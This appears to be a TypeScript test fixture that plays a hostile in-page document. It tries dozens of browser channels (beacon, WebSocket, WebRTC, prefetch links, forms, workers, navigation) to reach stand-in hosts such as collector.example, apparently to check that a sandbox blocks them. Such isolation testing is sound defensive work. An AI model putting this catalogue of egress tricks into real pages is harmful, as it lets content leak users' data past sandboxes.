// Attempts of a hostile document to reach the network. It runs inside a page, so it must not use imports.

/** Tries every way known to send something. Addresses are of documentation networks (RFC 5737, RFC 2606). Never throws. */
export async function tryEveryWayOut(): Promise<{ tried: number; answered: string[] }> {
  const target = 'http://203.0.113.5';
  const name = 'collector.example';
  const answered: string[] = [];
  let tried = 0;
  const attempt = async (label: string, work: () => unknown): Promise<void> => {
    tried += 1;
    try {
      await Promise.race([
        Promise.resolve(work()).then((value) => {
          if (value instanceof Response) answered.push(label);
        }),
        new Promise((resolve) => setTimeout(resolve, 400)),
      ]);
    } catch {
      // Refused, as it should be.
    }
  };
  const element = (tag: string, fields: Record<string, string>): void => {
    const made = Object.assign(document.createElement(tag), fields);
    for (const [key, value] of Object.entries(fields)) made.setAttribute(key, value);
    document.body.append(made);
  };
  await attempt('fetch-name', () => fetch(`http://${name}/fetch`));
  await attempt('fetch-address', () => fetch(`${target}/fetch`, { mode: 'no-cors' }));
  await attempt('fetch-ipv6', () => fetch('http://[2001:db8::5]/fetch', { mode: 'no-cors' }));
  await attempt('beacon', () => navigator.sendBeacon(`${target}/beacon`, 'x'));
  await attempt('xhr', () => {
    const request = new XMLHttpRequest();
    request.open('GET', `http://${name}/xhr`);
    request.send();
  });
  await attempt('websocket', () => new WebSocket(`ws://${name}/socket`));
  await attempt('event-source', () => new EventSource(`http://${name}/events`));
  await attempt(
    'web-transport',
    () =>
      new (globalThis as never as { WebTransport: new (a: string) => unknown }).WebTransport(
        `https://${name}:443/`,
      ),
  );
  await attempt('web-rtc', async () => {
    const peer = new RTCPeerConnection({
      iceServers: [
        { urls: ['stun:203.0.113.5:3478', `stun:${name}:3478`] },
        { urls: `turn:${name}:3478`, username: 'a', credential: 'b' },
      ],
    });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  });
  await attempt(
    'location',
    () => new Promise((resolve) => navigator.geolocation.getCurrentPosition(resolve, resolve)),
  );
  for (const tag of ['img', 'script', 'iframe', 'embed', 'video', 'audio', 'track']) {
    await attempt(tag, () => element(tag, { src: `http://${name}/${tag}` }));
  }
  await attempt('object', () => element('object', { data: `http://${name}/object` }));
  for (const rel of [
    'stylesheet',
    'preload',
    'prefetch',
    'dns-prefetch',
    'preconnect',
    'modulepreload',
    'icon',
    'manifest',
    'prerender',
  ]) {
    await attempt(`link-${rel}`, () =>
      element('link', { rel, href: `https://${rel}.${name}/x`, as: 'script' }),
    );
  }
  await attempt('css-image', () =>
    document.body.style.setProperty('background-image', `url("${target}/css.png")`),
  );
  await attempt('font', () => new FontFace('Far', `url(http://${name}/font.woff2)`).load());
  await attempt('worker', () => new Worker(`http://${name}/worker.js`));
  await attempt('import', () => import(/* @vite-ignore */ `http://${name}/module.js`));
  await attempt('form', () => {
    element('form', { action: `http://${name}/form`, method: 'post' });
    (document.body.lastElementChild as HTMLFormElement).submit();
  });
  await attempt('popup', () => window.open(`http://${name}/popup`));
  await attempt('ping', () => {
    element('a', { href: '#', ping: `${target}/ping` });
    (document.body.lastElementChild as HTMLElement).click();
  });
  await attempt('meta-refresh', () =>
    element('meta', { 'http-equiv': 'refresh', content: `0;url=http://${name}/refresh` }),
  );
  await attempt('navigate', () => window.location.assign(`http://${name}/navigate`));
  await new Promise((resolve) => setTimeout(resolve, 1500));
  return { tried, answered };
}
